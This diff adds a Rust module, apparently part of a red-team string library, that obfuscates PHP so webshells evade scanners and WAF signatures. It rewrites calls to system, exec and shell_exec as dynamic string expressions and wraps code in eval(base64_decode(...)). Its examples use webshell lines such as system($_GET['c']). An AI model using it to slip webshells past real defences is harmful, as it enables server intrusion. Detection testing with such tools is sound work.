@@ -0,0 +1,552 @@
+use crate::rng::SimpleRng;
+use crate::transformations::encoding::base64_encode;
+use crate::transformations::obfuscation::rot13;
+
+/// Functions webshell scanners look for by name, rewritten as dynamic calls.
+///
+/// `assert` is not listed: PHP refuses to call it dynamically with a string
+/// argument.
+const PHP_SENSITIVE_FUNCTIONS: &[&str] = &[
+    "system",
+    "exec",
+    "shell_exec",
+    "passthru",
+    "popen",
+    "proc_open",
+    "pcntl_exec",
+    "create_function",
+    "call_user_func",
+    "call_user_func_array",
+    "preg_replace",
+    "base64_decode",
+    "str_rot13",
+    "gzinflate",
+    "gzuncompress",
+    "file_get_contents",
+    "file_put_contents",
+    "fopen",
+    "fwrite",
+    "move_uploaded_file",
+    "phpinfo",
+];
+
+/// Quotes `value` as a single-quoted PHP string.
+fn php_quote(value: &str) -> String {
+    format!("'{}'", value.replace('\\', "\\\\").replace('\'', "\\'"))
+}
+
+/// Builds an expression evaluating to `value`, as `chr()` calls or split literals.
+fn php_string_expr(value: &str, rng: &mut SimpleRng) -> String {
+    if value.is_empty() {
+        return "''".to_string();
+    }
+    if rng.next() % 2 == 0 {
+        return value
+            .bytes()
+            .map(|b| format!("chr({})", b))
+            .collect::<Vec<_>>()
+            .join(".");
+    }
+    // Concatenation of two or three pieces: 'sys'.'tem'
+    let boundaries: Vec<usize> = value.char_indices().map(|(i, _)| i).skip(1).collect();
+    let mut cuts: Vec<usize> = (0..boundaries.len().min(2))
+        .map(|_| boundaries[rng.next() as usize % boundaries.len()])
+        .collect();
+    cuts.sort_unstable();
+    cuts.dedup();
+    let mut pieces = Vec::new();
+    let mut start = 0;
+    for cut in cuts.into_iter().chain(std::iter::once(value.len())) {
+        pieces.push(php_quote(&value[start..cut]));
+        start = cut;
+    }
+    pieces.join(".")
+}
+
+/// Finds the end of a heredoc or nowdoc starting at `start` (`<<<`).
+///
+/// Returns `None` when no label follows `<<<`. An unterminated heredoc runs
+/// to the end of the input.
+fn php_heredoc_end(chars: &[char], start: usize) -> Option<usize> {
+    let mut i = start + 3;
+    while matches!(chars.get(i), Some(' ' | '\t')) {
+        i += 1;
+    }
+    let quote = matches!(chars.get(i), Some('\'' | '"'));
+    if quote {
+        i += 1;
+    }
+    let label_len = chars[i..]
+        .iter()
+        .take_while(|c| c.is_ascii_alphanumeric() || **c == '_')
+        .count();
+    if label_len == 0 {
+        return None;
+    }
+    let label = &chars[i..i + label_len];
+    i += label_len + usize::from(quote);
+    // The closing label may be indented and is followed by a non-label character
+    loop {
+        let Some(newline) = chars[i..].iter().position(|&c| c == '\n') else {
+            return Some(chars.len());
+        };
+        let line = i + newline + 1;
+        let mut j = line;
+        while matches!(chars.get(j), Some(' ' | '\t')) {
+            j += 1;
+        }
+        let end = j + label_len;
+        if chars.get(j..end) == Some(label)
+            && !chars
+                .get(end)
+                .is_some_and(|c| c.is_ascii_alphanumeric() || *c == '_')
+        {
+            return Some(end);
+        }
+        i = line;
+    }
+}
+
+/// Obfuscates PHP code for webshell-detection and filter testing.
+///
+/// The code keeps its behaviour while losing the strings signatures match:
+///
+/// - Calls to sensitive functions (`system`, `shell_exec`, `passthru`,
+///   `base64_decode`, ...) call a string expression in place:
+///   `('sys'.'tem')('id');`, which also works inside functions and methods
+/// - Single-quoted strings, and double-quoted strings without interpolation
+///   or escapes, become `chr()` chains (`chr(105).chr(100)`) or split
+///   concatenations (`'i'.'d'`)
+/// - The result is randomly left as is or wrapped in
+///   `eval(str_rot13('...'))` or `eval(base64_decode('...'))`
+///
+/// Comments, heredocs, nowdocs and interpolated strings are kept verbatim,
+/// and so are literals where PHP only accepts constant expressions:
+/// parameter defaults, `const` and `case` values, and property and `static`
+/// initializers. A leading `<?php` tag is preserved and a trailing `?>`
+/// dropped. Language constructs such as `eval`, `include` and `echo`, and
+/// `assert`, which PHP will not call dynamically, are left alone.
+/// Input that mixes PHP with inline HTML (text before the opening tag or
+/// after a closing `?>`) is returned unchanged, since the rewritten code
+/// would otherwise end up outside or around the HTML.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Get webshells past upload scanners and WAF signatures
+/// - **Blue Team**: Verify webshell detection normalizes strings and dynamic calls
+///
+/// # Examples
+///
+/// ```
+/// use redstr::php_obfuscate;
+/// let result = php_obfuscate("<?php system($_GET['c']); ?>");
+/// assert!(result.starts_with("<?php "));
+/// assert!(!result.contains("system"));
+/// ```
+pub fn php_obfuscate(code: &str) -> String {
+    let mut rng = SimpleRng::new();
+    let trimmed = code.trim();
+    let (tag, body) = match trimmed.get(..5) {
+        Some(open) if open.eq_ignore_ascii_case("<?php") => (true, &trimmed[5..]),
+        _ => (false, trimmed),
+    };
+    let body = body.trim();
+    let body = body.strip_suffix("?>").unwrap_or(body).trim();
+    let inline_html = body.contains("?>") || (!tag && body.contains("<?"));
+    if body.is_empty() || inline_html {
+        return code.to_string();
+    }
+
+    let chars: Vec<char> = body.chars().collect();
+    let mut out = String::new();
+    let mut last_word = String::new();
+    // Constant-expression contexts: a declaration running to `;`, a `case`
+    // label running to `:`, and the parenthesis depth of a parameter list
+    let mut constant = false;
+    let mut case_label = false;
+    let mut pending_params = false;
+    let mut params: Option<usize> = None;
+    // Length of `out` up to the last code character, before trailing comments
+    let mut code_end = 0;
+    let mut i = 0;
+
+    while i < chars.len() {
+        let c = chars[i];
+        let next = chars.get(i + 1).copied();
+        let literal_only = constant || params.is_some();
+        if c == '#' || (c == '/' && next == Some('/')) {
+            let end = chars[i..]
+                .iter()
+                .position(|&ch| ch == '\n')
+                .map_or(chars.len(), |pos| i + pos);
+            out.extend(&chars[i..end]);
+            i = end;
+            last_word.clear();
+            continue;
+        } else if c == '/' && next == Some('*') {
+            let end = chars[i + 2..]
+                .windows(2)
+                .position(|pair| pair == ['*', '/'])
+                .map_or(chars.len(), |pos| i + 2 + pos + 2);
+            out.extend(&chars[i..end]);
+            i = end;
+            continue;
+        } else if let Some(end) = chars[i..]
+            .starts_with(&['<', '<', '<'])
+            .then(|| php_heredoc_end(&chars, i))
+            .flatten()
+        {
+            out.extend(&chars[i..end]);
+            i = end;
+            last_word.clear();
+        } else if c == '\'' || c == '"' {
+            let mut end = i + 1;
+            let mut value = String::new();
+            let mut plain = true;
+            while end < chars.len() && chars[end] != c {
+                if chars[end] == '\\' && end + 1 < chars.len() {
+                    let escaped = chars[end + 1];
+                    if c == '\'' && (escaped == '\\' || escaped == '\'') {
+                        value.push(escaped);
+                    } else {
+                        plain = false;
+                        value.push('\\');
+                        value.push(escaped);
+                    }
+                    end += 2;
+                    continue;
+                }
+                plain &= !(c == '"' && chars[end] == '$');
+                value.push(chars[end]);
+                end += 1;
+            }
+            let end = (end + 1).min(chars.len());
+            if !literal_only && (c == '\'' || plain) && end - 1 > i && chars[end - 1] == c {
+                out.push_str(&php_string_expr(&value, &mut rng));
+            } else {
+                out.extend(&chars[i..end]);
+            }
+            i = end;
+            last_word.clear();
+        } else if c.is_ascii_alphabetic() || c == '_' {
+            let end = chars[i..]
+                .iter()
+                .position(|ch| !(ch.is_ascii_alphanumeric() || *ch == '_'))
+                .map_or(chars.len(), |pos| i + pos);
+            let word: String = chars[i..end].iter().collect();
+            let prev = out.trim_end().chars().last();
+            let member = matches!(prev, Some('$' | '>' | ':' | '\\'));
+            let following = chars[end..].iter().find(|ch| !ch.is_whitespace());
+            let called = following == Some(&'(');
+            let lower = word.to_ascii_lowercase();
+            if !member {
+                match lower.as_str() {
+                    "function" | "fn" => {
+                        constant = false;
+                        pending_params = true;
+                    }
+                    "const" | "var" | "public" | "protected" | "private" | "readonly" => {
+                        constant = true;
+                    }
+                    // `static::` and `static fn` are not declarations
+                    "static" if !matches!(following, Some(':' | '(')) => constant = true,
+                    "case" => {
+                        constant = true;
+                        case_label = true;
+                    }
+                    _ => {}
+                }
+            }
+            if called
+                && !member
+                && !literal_only
+                && !last_word.eq_ignore_ascii_case("function")
+                && PHP_SENSITIVE_FUNCTIONS.contains(&lower.as_str())
+            {
+                out.push('(');
+                out.push_str(&php_string_expr(&lower, &mut rng));
+                out.push(')');
+            } else {
+                out.push_str(&word);
+            }
+            last_word = word;
+            i = end;
+        } else {
+            match c {
+                '(' if pending_params => {
+                    pending_params = false;
+                    params = Some(1);
+                }
+                '(' => params = params.map(|depth| depth + 1),
+                ')' => params = params.and_then(|depth| depth.checked_sub(1).filter(|&d| d > 0)),
+                ';' | '{' | '}' => {
+                    constant = false;
+                    case_label = false;
+                    pending_params = false;
+                }
+                ':' if case_label && next != Some(':') && !out.ends_with(':') => {
+                    constant = false;
+                    case_label = false;
+                }
+                _ => {}
+            }
+            if !c.is_whitespace() {
+                last_word.clear();
+            }
+            out.push(c);
+            i += 1;
+        }
+        if !out.ends_with(char::is_whitespace) {
+            code_end = out.len();
+        }
+    }
+
+    let comments = out.split_off(code_end);
+    let mut result = out;
+    if !result.is_empty() && !result.ends_with(';') && !result.ends_with('}') {
+        result.push(';');
+    }
+    result.push_str(&comments);
+    result = match rng.next() % 3 {
+        0 => result,
+        1 => format!("eval(str_rot13({}));", php_quote(&rot13(&result))),
+        _ => format!("eval(base64_decode('{}'));", base64_encode(&result)),
+    };
+
+    if tag {
+        format!("<?php {}", result)
+    } else {
+        result
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::transformations::encoding::base64url_decode;
+
+    /// Undoes the optional eval wrapper and drops the `<?php ` tag.
+    fn unwrap(result: &str) -> String {
+        let body = result.strip_prefix("<?php ").unwrap_or(result);
+        if let Some(inner) = body
+            .strip_prefix("eval(base64_decode('")
+            .and_then(|rest| rest.strip_suffix("'));"))
+        {
+            return String::from_utf8(base64url_decode(inner).unwrap()).unwrap();
+        }
+        if let Some(inner) = body
+            .strip_prefix("eval(str_rot13('")
+            .and_then(|rest| rest.strip_suffix("'));"))
+        {
+            return rot13(&inner.replace("\\'", "'").replace("\\\\", "\\"));
+        }
+        body.to_string()
+    }
+
+    /// Evaluates a `chr(n).'text'` concatenation.
+    fn eval_concat(expr: &str) -> String {
+        let mut bytes = Vec::new();
+        let mut rest = expr;
+        while !rest.is_empty() {
+            rest = rest.strip_prefix('.').unwrap_or(rest);
+            if let Some(after) = rest.strip_prefix("chr(") {
+                let close = after.find(')').unwrap();
+                bytes.push(after[..close].parse::<u8>().unwrap());
+                rest = &after[close + 1..];
+            } else {
+                let after = rest.strip_prefix('\'').unwrap();
+                let mut end = 0;
+                let chars: Vec<char> = after.chars().collect();
+                let mut value = String::new();
+                while chars[end] != '\'' {
+                    if chars[end] == '\\' {
+                        end += 1;
+                    }
+                    value.push(chars[end]);
+                    end += 1;
+                }
+                bytes.extend(value.bytes());
+                let consumed: usize = chars[..=end].iter().map(|c| c.len_utf8()).sum();
+                rest = &after[consumed..];
+            }
+        }
+        String::from_utf8(bytes).unwrap()
+    }
+
+    #[test]
+    fn test_php_obfuscate_hides_function_names() {
+        for _ in 0..20 {
+            let result = php_obfuscate("<?php system($_GET['c']); ?>");
+            assert!(result.starts_with("<?php "));
+            let body = unwrap(&result);
+            assert!(!body.contains("system"), "{}", body);
+            assert!(body.contains("($_GET["), "{}", body);
+        }
+    }
+
+    /// Splits a `(callee)(args)` call into the callee expression and the rest.
+    fn split_call(statement: &str) -> (&str, &str) {
+        let mut depth = 0;
+        for (i, c) in statement.char_indices() {
+            match c {
+                '(' => depth += 1,
+                ')' => {
+                    depth -= 1;
+                    if depth == 0 {
+                        return (&statement[1..i], &statement[i + 1..]);
+                    }
+                }
+                _ => {}
+            }
+        }
+        panic!("unbalanced call: {}", statement)
+    }
+
+    #[test]
+    fn test_php_obfuscate_calls_evaluate_to_names() {
+        for _ in 0..20 {
+            let body = unwrap(&php_obfuscate("passthru('id'); shell_exec('ls');"));
+            let mut names = Vec::new();
+            for statement in body.split(';').take(2) {
+                let (callee, args) = split_call(statement.trim_start());
+                assert!(args.starts_with('('), "{}", body);
+                names.push(eval_concat(callee));
+            }
+            assert_eq!(names, ["passthru", "shell_exec"]);
+        }
+    }
+
+    #[test]
+    fn test_php_obfuscate_string_literals() {
+        for _ in 0..20 {
+            let body = unwrap(&php_obfuscate("echo 'it\\'s' . \"plain\";"));
+            assert!(!body.contains("plain"), "{}", body);
+            let expr = body
+                .strip_prefix("echo ")
+                .and_then(|rest| rest.strip_suffix(';'))
+                .unwrap();
+            let (left, right) = expr.split_once(" . ").unwrap();
+            assert_eq!(eval_concat(left), "it's");
+            assert_eq!(eval_concat(right), "plain");
+        }
+    }
+
+    #[test]
+    fn test_php_obfuscate_keeps_interpolation_and_comments() {
+        for _ in 0..20 {
+            let body = unwrap(&php_obfuscate("// run system\necho \"$x\\n\";"));
+            assert!(body.starts_with("// run system\n"), "{}", body);
+            assert!(body.ends_with("echo \"$x\\n\";"), "{}", body);
+        }
+    }
+
+    #[test]
+    fn test_php_obfuscate_skips_methods_and_definitions() {
+        for _ in 0..20 {
+            let body = unwrap(&php_obfuscate(
+                "function exec($a) {} $o->system(1); Foo::assert(2);",
+            ));
+            assert!(body.contains("function exec($a)"), "{}", body);
+            assert!(body.contains("$o->system(1)"), "{}", body);
+            assert!(body.contains("Foo::assert(2)"), "{}", body);
+        }
+    }
+
+    #[test]
+    fn test_php_obfuscate_calls_inside_functions() {
+        for _ in 0..20 {
+            let body = unwrap(&php_obfuscate(
+                "function run($c) { return shell_exec($c); } class A { function f() { system('id'); } }",
+            ));
+            assert!(
+                !body.contains("system") && !body.contains("shell_exec"),
+                "{}",
+                body
+            );
+            assert!(!body.contains("$_"), "{}", body);
+            assert!(
+                body.contains("return (") && body.contains(")($c);"),
+                "{}",
+                body
+            );
+        }
+    }
+
+    #[test]
+    fn test_php_obfuscate_keeps_constant_expressions() {
+        let code = "function f($c = 'id', $d = \"ls\") {} \
+                    class A { public $x = 'a'; const Y = 'b'; private static ?string $z = 'c'; \
+                    public function __construct(private string $w = 'd') {} } \
+                    function g() { static $n = 'e'; } \
+                    enum E: string { case K = 'f'; } \
+                    switch ($v) { case 'g': echo 'hi'; }";
+        for _ in 0..20 {
+            let body = unwrap(&php_obfuscate(code));
+            for kept in [
+                "$c = 'id', $d = \"ls\"",
+                "$x = 'a'",
+                "Y = 'b'",
+                "$z = 'c'",
+                "$w = 'd'",
+                "$n = 'e'",
+                "K = 'f'",
+                "case 'g':",
+            ] {
+                assert!(body.contains(kept), "{} in {}", kept, body);
+            }
+            assert!(!body.contains("'hi'"), "{}", body);
+        }
+    }
+
+    #[test]
+    fn test_php_obfuscate_keeps_heredocs() {
+        let code = "$a = <<<EOT\nsystem('id') EOTX\n  EOT;\n$b = <<<'RAW'\n'x'\nRAW;\necho 'yes';";
+        for _ in 0..20 {
+            let body = unwrap(&php_obfuscate(code));
+            assert!(
+                body.starts_with(
+                    "$a = <<<EOT\nsystem('id') EOTX\n  EOT;\n$b = <<<'RAW'\n'x'\nRAW;\n"
+                ),
+                "{}",
+                body
+            );
+            assert!(!body.contains("'yes'"), "{}", body);
+        }
+    }
+
+    #[test]
+    fn test_php_obfuscate_leaves_assert() {
+        for _ in 0..20 {
+            let body = unwrap(&php_obfuscate("assert($ok);"));
+            assert_eq!(body, "assert($ok);");
+        }
+    }
+
+    #[test]
+    fn test_php_obfuscate_terminates_before_trailing_comment() {
+        for _ in 0..20 {
+            let body = unwrap(&php_obfuscate("<?php system('id') // run it ?>"));
+            assert!(body.ends_with("); // run it"), "{}", body);
+            let body = unwrap(&php_obfuscate("echo 1 # note\n/* end */"));
+            assert!(body.ends_with("echo 1; # note\n/* end */"), "{}", body);
+        }
+    }
+
+    #[test]
+    fn test_php_obfuscate_leaves_inline_html_unchanged() {
+        for code in [
+            "<?php phpinfo(); ?><b>hi</b>",
+            "<b>x</b><?php echo 1; ?>",
+            "<?php system('id'); ?>\n<p>done</p>\n<?php exec('ls'); ?>",
+            "<?= system('id') ?>",
+        ] {
+            assert_eq!(php_obfuscate(code), code);
+        }
+    }
+
+    #[test]
+    fn test_php_obfuscate_empty() {
+        assert_eq!(php_obfuscate(""), "");
+        assert_eq!(php_obfuscate("<?php ?>"), "<?php ?>");
+    }
+}